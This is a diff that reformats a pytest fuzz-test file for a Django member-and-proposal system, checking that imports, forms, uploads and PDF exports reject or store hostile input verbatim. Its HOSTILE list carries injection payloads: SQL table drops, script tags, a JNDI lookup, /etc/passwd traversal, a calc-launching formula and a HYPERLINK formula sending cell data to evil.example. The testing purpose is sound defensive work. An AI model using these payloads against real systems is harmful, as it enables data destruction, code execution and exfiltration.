@@ -5,6 +5,7 @@ Over-long strings, control characters, SQL and script fragments, broken xlsx byt
 wrong headers: each ends in a clear error (``DomainError`` / a form error / a row report) with nothing saved,
 or is stored verbatim (never interpreted), and never in a 5xx.
 """
+
 from __future__ import annotations
 
 import io
@@ -28,18 +29,52 @@ from tests import factories as f
 
 pytestmark = pytest.mark.django_db
 
-SETTINGS = settings(max_examples=25, deadline=None, derandomize=True, database=None,
-                    suppress_health_check=list(HealthCheck))
+SETTINGS = settings(
+    max_examples=25, deadline=None, derandomize=True, database=None, suppress_health_check=list(HealthCheck)
+)
 
 HOSTILE = [
-    "'; DROP TABLE groups_member; --", "1 OR 1=1", "\" OR \"\"=\"", "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>", "{{ 7*7 }}", "{% debug %}", "${jndi:ldap://x}", "../../etc/passwd",
-    "=CMD|' /C calc'!A0", "\u202e\u200b\ufeff", "\x00", "\x1b[31m", "\r\n\t", "𠜎𠜱𠝹", "Ｓｅｌｅｃｔ",
+    "'; DROP TABLE groups_member; --",
+    "1 OR 1=1",
+    '" OR ""="',
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "{{ 7*7 }}",
+    "{% debug %}",
+    "${jndi:ldap://x}",
+    "../../etc/passwd",
+    "=CMD|' /C calc'!A0",
+    "\u202e\u200b\ufeff",
+    "\x00",
+    "\x1b[31m",
+    "\r\n\t",
+    "𠜎𠜱𠝹",
+    "Ｓｅｌｅｃｔ",
     # formulas in a spreadsheet, markup and fetches in a PDF (issue 14)
-    '=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
-    '<img src="http://127.0.0.1:1/x.png"/>', "<img src='/etc/passwd'/>", "a<b", "<b>粗</b>", "R&D &amp;", "x\ud800y",
+    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    '<img src="http://127.0.0.1:1/x.png"/>',
+    "<img src='/etc/passwd'/>",
+    "a<b",
+    "<b>粗</b>",
+    "R&D &amp;",
+    "x\ud800y",
     # markup and entities, spreadsheet formulas, bare controls, a lone surrogate, a number beyond 64 bits
-    "<img src=x>", "<b>", "&", "<", "=HYPERLINK(\"x\")", "+1", "-1", "@SUM(1)", "\t", "\r", "\ud800",
+    "<img src=x>",
+    "<b>",
+    "&",
+    "<",
+    '=HYPERLINK("x")',
+    "+1",
+    "-1",
+    "@SUM(1)",
+    "\t",
+    "\r",
+    "\ud800",
     "99999999999999999999",
 ]
 hostile_text = st.one_of(
@@ -49,7 +84,21 @@ hostile_text = st.one_of(
     st.builds(lambda a, b: a + b, st.sampled_from(HOSTILE), st.text(max_size=20)),
 )
 
-HEADER = ["政协组织", "届次", "姓名", "性别", "界别", "专门委员会", "党派", "常委", "工作单位", "职务", "街镇", "手机", "电子邮箱"]
+HEADER = [
+    "政协组织",
+    "届次",
+    "姓名",
+    "性别",
+    "界别",
+    "专门委员会",
+    "党派",
+    "常委",
+    "工作单位",
+    "职务",
+    "街镇",
+    "手机",
+    "电子邮箱",
+]
 
 
 @pytest.fixture
@@ -93,6 +142,7 @@ def _import(data: bytes, file_format: str, actor):
 
 # --- Import ---------------------------------------------------------------------------------------------------
 
+
 @SETTINGS
 @given(data=st.binary(max_size=4096), file_format=st.sampled_from(["xlsx", "csv", "xls"]))
 def test_import_of_random_bytes_is_a_clear_error_and_saves_nothing(setup, data, file_format):
@@ -104,8 +154,12 @@ def test_import_of_random_bytes_is_a_clear_error_and_saves_nothing(setup, data, 
 
 
 @SETTINGS
-@given(name=hostile_text, work_unit=hostile_text, phone=st.one_of(st.sampled_from(["13912345678"]), hostile_text),
-       email=hostile_text)
+@given(
+    name=hostile_text,
+    work_unit=hostile_text,
+    phone=st.one_of(st.sampled_from(["13912345678"]), hostile_text),
+    email=hostile_text,
+)
 def test_import_of_hostile_cells_reports_rows_or_stores_them_verbatim(setup, name, work_unit, phone, email):
     before = Member.objects.count()
     row = ["东湖区政协", 9, name, "男", "教育界", "", "无党派人士", "是", work_unit, "校长", "东湖街道", phone, email]
@@ -129,17 +183,24 @@ def _truncated_xlsx() -> bytes:
     return out.getvalue()
 
 
-@pytest.mark.parametrize("mangle", [
-    lambda b: b[: len(b) // 2],  # cut short
-    lambda b: b[:100] + b"\x00" * 200 + b[300:],  # corrupted central data
-    lambda b: b"PK\x03\x04" + b"\xff" * 64,  # a zip header and nothing else
-    lambda b: b"<html><script>alert(1)</script></html>",  # not a workbook at all
-])
+@pytest.mark.parametrize(
+    "mangle",
+    [
+        lambda b: b[: len(b) // 2],  # cut short
+        lambda b: b[:100] + b"\x00" * 200 + b[300:],  # corrupted central data
+        lambda b: b"PK\x03\x04" + b"\xff" * 64,  # a zip header and nothing else
+        lambda b: b"<html><script>alert(1)</script></html>",  # not a workbook at all
+    ],
+)
 def test_a_broken_xlsx_is_a_clear_error(setup, mangle):
     before = Member.objects.count()
     with pytest.raises(DomainError):
-        table_import(resource_class=MemberResource, data=mangle(_truncated_xlsx()), file_format="xlsx",
-                     actor=setup.district_staff)
+        table_import(
+            resource_class=MemberResource,
+            data=mangle(_truncated_xlsx()),
+            file_format="xlsx",
+            actor=setup.district_staff,
+        )
     assert Member.objects.count() == before
 
 
@@ -174,18 +235,27 @@ def test_a_zip_bomb_is_refused_without_inflating_it(setup):
 
 # --- A page form ----------------------------------------------------------------------------------------------
 
+
 @SETTINGS
 @given(title=hostile_text, suggestions=hostile_text, analysis=hostile_text)
-def test_proposal_form_with_hostile_text_is_a_form_error_or_saved_verbatim(world, client, title, suggestions,
-                                                                           analysis):
+def test_proposal_form_with_hostile_text_is_a_form_error_or_saved_verbatim(world, client, title, suggestions, analysis):
     from proposals.models import Proposal
 
     client.force_login(world.member)
     before = Proposal.objects.count()
-    response = client.post(reverse("proposals:create"), _form_body({
-        "kind": "member", "title": title, "category": Proposal._meta.get_field("category").choices[0][0],
-        "analysis": analysis, "suggestions": suggestions,
-    }), content_type="application/x-www-form-urlencoded")
+    response = client.post(
+        reverse("proposals:create"),
+        _form_body(
+            {
+                "kind": "member",
+                "title": title,
+                "category": Proposal._meta.get_field("category").choices[0][0],
+                "analysis": analysis,
+                "suggestions": suggestions,
+            }
+        ),
+        content_type="application/x-www-form-urlencoded",
+    )
     assert response.status_code in (200, 302, 400), response.status_code
     if response.status_code == 302:
         saved = Proposal.objects.order_by("-pk").first()
@@ -203,10 +273,19 @@ def test_every_hostile_string_in_a_proposal_is_a_form_error_or_saved_verbatim(wo
     from proposals.models import Proposal
 
     client.force_login(world.member)
-    response = client.post(reverse("proposals:create"), _form_body({
-        "kind": "member", "title": f"关于{text}的建议", "category": Proposal._meta.get_field("category").choices[0][0],
-        "analysis": text, "suggestions": f"建议{text}",
-    }), content_type="application/x-www-form-urlencoded")
+    response = client.post(
+        reverse("proposals:create"),
+        _form_body(
+            {
+                "kind": "member",
+                "title": f"关于{text}的建议",
+                "category": Proposal._meta.get_field("category").choices[0][0],
+                "analysis": text,
+                "suggestions": f"建议{text}",
+            }
+        ),
+        content_type="application/x-www-form-urlencoded",
+    )
     assert response.status_code in (200, 302, 400), response.status_code
     if response.status_code == 302:
         saved = Proposal.objects.get()
@@ -216,20 +295,40 @@ def test_every_hostile_string_in_a_proposal_is_a_form_error_or_saved_verbatim(wo
 
 
 @SETTINGS
-@given(title=hostile_text, place=hostile_text, summary=hostile_text,
-       number=st.sampled_from(["99999999999999999999", "-1", "+1", "²", "1e400", "0x10", "", "<b>"]))
-def test_activity_form_with_hostile_text_and_numbers_is_a_form_error_or_saved_verbatim(world, client, title, place,
-                                                                                      summary, number):
+@given(
+    title=hostile_text,
+    place=hostile_text,
+    summary=hostile_text,
+    number=st.sampled_from(["99999999999999999999", "-1", "+1", "²", "1e400", "0x10", "", "<b>"]),
+)
+def test_activity_form_with_hostile_text_and_numbers_is_a_form_error_or_saved_verbatim(
+    world, client, title, place, summary, number
+):
     from groups.models import Activity
 
     client.force_login(world.convener)
     before = Activity.objects.count()
     starts = (timezone.localtime() + timedelta(days=3)).strftime("%Y-%m-%d %H:%M")
-    response = client.post(reverse("groups:activity_new", args=[world.group.pk]), _form_body({
-        "title": title, "kind": Activity.Kind.STUDY, "target": "", "contact_point": number, "six_item": "",
-        "plan_item": number, "starts_at": starts, "ends_at": "", "place": place, "summary": summary,
-        "suggestions": "", "version": number,
-    }), content_type="application/x-www-form-urlencoded")
+    response = client.post(
+        reverse("groups:activity_new", args=[world.group.pk]),
+        _form_body(
+            {
+                "title": title,
+                "kind": Activity.Kind.STUDY,
+                "target": "",
+                "contact_point": number,
+                "six_item": "",
+                "plan_item": number,
+                "starts_at": starts,
+                "ends_at": "",
+                "place": place,
+                "summary": summary,
+                "suggestions": "",
+                "version": number,
+            }
+        ),
+        content_type="application/x-www-form-urlencoded",
+    )
     assert response.status_code in (200, 302), response.status_code
     if response.status_code == 302:
         saved = Activity.objects.order_by("-pk").first()
@@ -240,6 +339,7 @@ def test_activity_form_with_hostile_text_and_numbers_is_a_form_error_or_saved_ve
 
 
 # --- Evidence uploads with wrong headers ------------------------------------------------------------------------
+
 
 def _png() -> bytes:
     from tests.groups.factories import png_bytes
@@ -271,13 +371,18 @@ def test_evidence_with_a_wrong_header_is_refused_and_nothing_saved(world, client
 
     activity = ActivityFactory(group=world.group)
     client.force_login(world.convener)
-    response = client.post(reverse("groups:evidence_upload", args=[activity.pk]),
-                           {"file": SimpleUploadedFile(name, content, content_type="image/png"), "caption": "现场"},
-                           follow=True)
+    response = client.post(
+        reverse("groups:evidence_upload", args=[activity.pk]),
+        {"file": SimpleUploadedFile(name, content, content_type="image/png"), "caption": "现场"},
+        follow=True,
+    )
     assert response.status_code == 200
     assert not Evidence.objects.filter(activity=activity).exists()
-    assert "alert-danger" in response.content.decode() or "错误" in response.content.decode() or \
-        response.context["messages"]
+    assert (
+        "alert-danger" in response.content.decode()
+        or "错误" in response.content.decode()
+        or response.context["messages"]
+    )
 
 
 @SETTINGS
@@ -290,8 +395,11 @@ def test_evidence_service_refuses_random_bytes(world, _media, content):
 
     activity = ActivityFactory(group=world.group)
     try:
-        evidence_upload(activity_id=activity.pk, actor=world.convener,
-                        upload=SimpleUploadedFile("x.png", content, content_type="image/png"))
+        evidence_upload(
+            activity_id=activity.pk,
+            actor=world.convener,
+            upload=SimpleUploadedFile("x.png", content, content_type="image/png"),
+        )
     except DomainError:
         assert not Evidence.objects.filter(activity=activity).exists()
     else:  # random bytes that happen to be a valid image or PDF: stored under the sniffed type
@@ -299,6 +407,7 @@ def test_evidence_service_refuses_random_bytes(world, _media, content):
 
 
 # --- Exports: hostile titles and names ------------------------------------------------------------------------
+
 
 def _storable(text: str) -> str:
     """What a database can hold at all (no lone surrogates; PostgreSQL takes no NUL)."""
@@ -341,13 +450,37 @@ def test_duty_record_pdf_prints_hostile_titles_without_fetching(world, title):
     from assessments.record_page import CategoryRow, LineState, LineWords, RecordPage, Row, RowGroup
 
     one, zero = Decimal(1), Decimal("0.00")
-    row = Row(date(2026, 1, 2), title[:50], "", title, None, None, one, one,
-              LineWords(LineState.SCORED, title[:20], (title[:40],)))
-    page = RecordPage(year=2026, quarter=2, period=title[:20], total=zero, grade=title[:10], grade_reason=title,
-                      base=zero, bonus=zero, bonus_raw=zero, bonus_cap=None, deductions=zero,
-                      categories=(CategoryRow(title[:30], one, None, one),), missing=(title[:30],),
-                      locked_quarter=None, total_label=title[:20], period_points=one, period_raw=one + one,
-                      groups=(RowGroup(title[:30], title[:30], (row,), one, True),))
+    row = Row(
+        date(2026, 1, 2),
+        title[:50],
+        "",
+        title,
+        None,
+        None,
+        one,
+        one,
+        LineWords(LineState.SCORED, title[:20], (title[:40],)),
+    )
+    page = RecordPage(
+        year=2026,
+        quarter=2,
+        period=title[:20],
+        total=zero,
+        grade=title[:10],
+        grade_reason=title,
+        base=zero,
+        bonus=zero,
+        bonus_raw=zero,
+        bonus_cap=None,
+        deductions=zero,
+        categories=(CategoryRow(title[:30], one, None, one),),
+        missing=(title[:30],),
+        locked_quarter=None,
+        total_label=title[:20],
+        period_points=one,
+        period_raw=one + one,
+        groups=(RowGroup(title[:30], title[:30], (row,), one, True),),
+    )
     record = SimpleNamespace(member=world.member_record)
     with mock.patch("reportlab.lib.utils.rlUrlRead", side_effect=AssertionError("fetched")):
         content = duty_record_pdf(record, page)
